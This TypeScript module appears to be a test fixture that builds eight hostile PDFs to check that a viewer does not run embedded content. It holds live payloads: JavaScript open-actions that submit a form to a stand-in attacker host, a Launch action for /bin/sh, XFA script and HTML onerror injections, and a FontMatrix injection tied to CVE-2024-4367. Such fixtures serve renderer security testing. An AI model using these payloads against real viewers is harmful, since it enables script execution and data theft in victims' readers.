// Documents that would do something in a viewer that runs what is in them: each draws one page.
import { toPagedPdf, toStream } from './pdf.ts';

const RUN = "app.alert(1); this.submitForm('http://attacker.invalid/'); parent.attacked()";
const SCRIPT = `<</S/JavaScript/JS(${RUN.replaceAll('(', '\\(').replaceAll(')', '\\)')})>>`;
const DRAWS = '0 0 1 rg 0 0 200 280 re f BT /F 24 Tf 20 100 Td (Page) Tj ET';
const HERE = '/Rect[0 0 200 280]';
const LINK = (action: string) => `/Annots[<</Type/Annot/Subtype/Link${HERE}/A ${action}>>]`;
const page = (entries = '') => ({ draws: DRAWS, entries });
/** With a matrix of glyphs that ends a list and begins a program (CVE-2024-4367). */
const FONT =
  '<</Type/Font/Subtype/Type1/BaseFont/X/FontMatrix[1 2 3 4 5 (1\\); parent.attacked\\(\\)//)]/FirstChar 0/LastChar 0/Widths[500]>>';
const FORM =
  '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform><event activity="initialize">' +
  `<script contentType="application/x-javascript">${RUN}</script></event><field><value><exData contentType="text/html">` +
  '<body xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="parent.attacked()"/><a href="javascript:parent.attacked()">x</a></body>' +
  '</exData></value></field></subform></template></xdp:xdp>';

export const HOSTILE_PDFS: readonly Buffer[] = [
  toPagedPdf([page()], {
    catalog: `/OpenAction ${SCRIPT}/AA<</WC ${SCRIPT}/WS ${SCRIPT}>>/Names<</JavaScript<</Names[(a)${SCRIPT}]>>>>`,
  }),
  toPagedPdf([page(`/AA<</O ${SCRIPT}/C ${SCRIPT}>>${LINK('<</S/URI/URI(javascript:parent.attacked\\(\\))>>')}`)]),
  toPagedPdf([page(LINK('<</S/URI/URI(http://attacker.invalid/)>>'))], {
    catalog: '/OpenAction<</S/URI/URI(http://attacker.invalid/)>>',
  }),
  toPagedPdf([page(LINK('<</S/Launch/F(/bin/sh)>>'))], {
    catalog: '/OpenAction<</S/GoToR/F<</FS/URL/F(http://attacker.invalid/)>>/D[0/Fit]>>',
  }),
  toPagedPdf(
    [page(`/Annots[<</Type/Annot/Subtype/Widget/FT/Tx/T(a)${HERE}/AA<</K ${SCRIPT}/F ${SCRIPT}>>/A ${SCRIPT}>>]`)],
    {
      catalog: '/AcroForm<</Fields[]/NeedAppearances true>>',
    },
  ),
  toPagedPdf([page()], { objects: [toStream(FORM)], catalog: '/NeedsRendering true/AcroForm<</Fields[]/XFA 4 0 R>>' }),
  toPagedPdf([{ draws: `${DRAWS} BT /X 12 Tf (x) Tj ET`, resources: '/Font<</X 4 0 R>>' }], { objects: [FONT] }),
  toPagedPdf([
    page('/Annots[<</Type/Annot/Subtype/Screen/Rect[0 0 200 280]/A<</S/Rendition/OP 0/JS(app.alert\\(1\\))>>>>]'),
  ]),
];
